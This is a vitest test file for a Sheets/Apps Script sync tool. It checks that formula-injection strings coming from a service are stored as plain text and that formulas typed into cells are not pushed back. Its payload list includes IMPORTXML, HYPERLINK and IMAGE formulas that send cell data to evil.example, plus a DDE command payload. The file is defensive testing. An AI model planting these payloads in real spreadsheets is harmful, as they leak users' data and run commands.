/** Formula injection, both ways: from the service into cells, and from cells into the service. */
import { describe, expect, it } from 'vitest';
import { formulaIn, toSheetValue } from '../../src/platform/apps-script/cells';
import { contacts } from '../../src/resources/contacts';
import { tickets } from '../../src/resources/tickets';
import { messages } from '../support/scenario';
import { formulasOf, openHostileWorld, json } from './support/hostile-world';
import { page } from '../support/page-commands';

const FORMULAS = [
  '=1+1',
  '=IMPORTXML("https://evil.example/?d="&A2,"//x")',
  '=HYPERLINK("https://evil.example/?d="&B2,"click")',
  '=IMAGE("https://evil.example/"&C2)',
  '=IMPORTRANGE("1AbC","A1")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "'=1+1",
  "''=1+1",
  '\t=1+1',
  '\r\n=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  "=cmd|'/c calc'!A1",
  '=',
  '==1',
  '"=1+1"',
  '\u200b=1+1',
  '\ufeff=1+1',
];

/** A record whose every field is this text, whatever type it should have. */
function recordOf(fields: readonly { name: string }[], id: string, text: string): Record<string, unknown> {
  const record: Record<string, unknown> = {};
  for (const { name } of fields) {
    const [head = '', ...rest] = name.replaceAll('[]', '').split('.');
    record[head] = nested(record[head], rest, text);
  }
  return { ...record, id };
}

function nested(known: unknown, path: readonly string[], text: string): unknown {
  const [head, ...rest] = path;
  if (head === undefined) return text;
  const object = typeof known === 'object' && known !== null ? (known as Record<string, unknown>) : {};
  return { ...object, [head]: nested(object[head], rest, text) };
}

describe('formulas from the service', () => {
  it('become text in every column of a writable list, in ids, and in all hidden sheets', async () => {
    const records = FORMULAS.map((text, i) =>
      recordOf(contacts.fields, text.trim() === text ? text : `c${i}`, text),
    );
    const world = await openHostileWorld([
      json('contacts', { data: records, meta: { total: records.length } }),
    ]);
    expect(messages(world.run('menuPullContacts'))).toContain(`${records.length} records pulled`);
    expect(formulasOf(world.book)).toEqual([]);
    const rows = world.book.sheet('Contacts').records();
    expect(rows.map(row => row['Company ★'])).toEqual(FORMULAS);
    expect(rows.map(row => row['ID'])).toEqual(records.map(record => record['id']));
    // A second pull reads its own baseline and tab back, and must not undo the protection.
    world.run('menuPullContacts');
    expect(formulasOf(world.book)).toEqual([]);
    world.book.as(world.kim).select('Contacts');
    expect(messages(world.run('menuPreview'))).toBe('"Contacts": nothing to send.');
  });

  it('become text in a list by dates, numbers and times included, and in its staging', async () => {
    const records = FORMULAS.map((text, i) => recordOf(tickets.fields, `t${i}`, text));
    const world = await openHostileWorld(
      [json('tickets', { data: records, meta: { total: records.length } })],
      // So slow that the pull pauses and stages what it has.
      { host: { latency: { fetch: 40_000 } } },
    );
    expect(messages(world.run('menuPullTickets', ['type=1, 2026-01-01~2026-10-31']))).toContain('Paused');
    expect(formulasOf(world.book)).toEqual([]);
    expect(messages(world.run('menuContinue'))).toContain('records pulled');
    expect(formulasOf(world.book)).toEqual([]);
    const rows = world.book.sheet('Transactions - Card').records();
    // Transactions stand in the order of their time, which is a formula here too.
    expect(new Set(rows.map(row => row['Content']))).toEqual(new Set(FORMULAS));
  });

  it('become text in the Status column, where a refusal of the service stands', async () => {
    const evil = '=IMPORTXML("https://evil.example","//x")';
    const world = await openHostileWorld([
      json('tags', { data: [{ id: 't1', name: 'a' }], meta: { total: 1 } }, { method: 'GET' }),
      json('tags', { message: evil }, { method: 'PUT', status: 422 }),
    ]);
    world.run('menuPullTags');
    world.book.as(world.kim).select('Tags');
    world.book.as(world.kim).type('Tags', ['Name ★', 2], 'b');
    expect(messages(world.run('menuPush'))).toContain(evil);
    expect(JSON.stringify(world.book.sheet('Tags').row(2))).toContain(
      'Rejected by the service (422) =IMPORTXML',
    );
    expect(formulasOf(world.book)).toEqual([]);
  });

  it('are values, not formulas, where a cell function gives them', async () => {
    const records = FORMULAS.map((text, i) => ({ id: `c${i}`, name: text }));
    const world = await openHostileWorld([
      json('categories', { data: records, meta: { total: records.length } }),
    ]);
    page(world).allow(['FIN_CATEGORIES']);
    world.book.as(world.kim).type('Sheet1', 'A1', '=FIN_CATEGORIES()');
    const names = world.book
      .sheet('Sheet1')
      .values()
      .slice(1)
      .map(row => row[1]);
    expect(names).toEqual(FORMULAS);
    expect(formulasOf(world.book)).toEqual(['=FIN_CATEGORIES()']);
  });

  it('would be seen by these tests: a user who types one has a formula', async () => {
    const world = await openHostileWorld();
    for (const [i, text] of ['=1+1', '+1+1', '=HYPERLINK("https://x.example","y")'].entries())
      world.book.as(world.kim).type('Sheet1', `A${i + 1}`, text);
    expect(formulasOf(world.book)).toHaveLength(3);
  });
});

describe('toSheetValue', () => {
  it('puts an apostrophe before whatever Sheets evaluates', () => {
    for (const text of ['=1', '+1', '-1', '@x', "'x", '\t=1', '\r=1', '\n=1'])
      expect(toSheetValue(text), JSON.stringify(text)).toBe(`'${text}`);
    for (const text of ['', '가나', 'a=1', '1+1', 'x@y.example', '007'])
      expect(toSheetValue(text)).toBe(text);
  });

  it('does so too where only an import or an input method takes it for a formula', () => {
    for (const text of [' =1', '\u00a0=1', '\u3000=1', '\ufeff=1', '＝1', '＋1', '－1', '＠x'])
      expect(toSheetValue(text), JSON.stringify(text)).toBe(`'${text}`);
  });
});

describe('formulas from the spreadsheet', () => {
  it("are never pushed as text: it could become a formula in somebody else's export", async () => {
    for (const text of ["'=1+1", "' =1+1", '\'\u3000=HYPERLINK("https://evil.example")']) await refused(text);
  });

  it('are not pushed in full-width either: input methods and imports take ＝ for =', async () => {
    await refused("'＝1+1");
  });

  /** Typed into an existing and a new row, it is named and not sent. */
  async function refused(text: string): Promise<void> {
    const world = await openHostileWorld([
      json('tags', { data: [{ id: 't1', name: 'a' }], meta: { total: 1 } }),
    ]);
    world.run('menuPullTags');
    const hands = world.book.as(world.kim);
    hands.select('Tags');
    await world.service.requests();
    for (const row of [2, 3]) hands.type('Tags', ['Name ★', row], text);
    const said = messages(world.run('menuPush'));
    expect(said, text).toMatch(/Row 2 .*"[=＝]"/);
    expect(said, text).toMatch(/Row 3 .*"[=＝]"/);
    expect((await world.service.requests()).filter(({ method }) => method !== 'GET')).toEqual([]);
  }
});

describe('a formula of a report', () => {
  const FORMULA = `=IF(A2="a,b",SUM({'x, ''y'''!$B$2:$B,B1;C2,IF(1,2)}),"")`;
  const isComma = (locale: string): boolean => (1.5).toLocaleString(locale.replace('_', '-')).includes(',');

  it('is written as the locale of the spreadsheet writes it, with its texts and names of tabs as they are', () => {
    const there = `=IF(A2="a,b";SUM({'x, ''y'''!$B$2:$B\\B1;C2\\IF(1;2)});"")`;
    const languages =
      'ar az be bg bs ca cs cy da de el en es et eu fi fil fr gl gu he hi hr hu hy id is it ja ka kk kn ko lt lv mk ml mn mr my nb nl nn no pa pl pt ro ru sk sl sq sr sv ta te th tr uk vi zh';
    const regions = 'ar_EG de_CH en_GB es_AR es_MX fr_CA ko_KR pt_BR vi_VN zh_TW';
    for (const locale of [...languages.split(' '), ...regions.split(' '), ''])
      expect(formulaIn(locale, FORMULA), locale).toBe(locale !== '' && isComma(locale) ? there : FORMULA);
  });
});
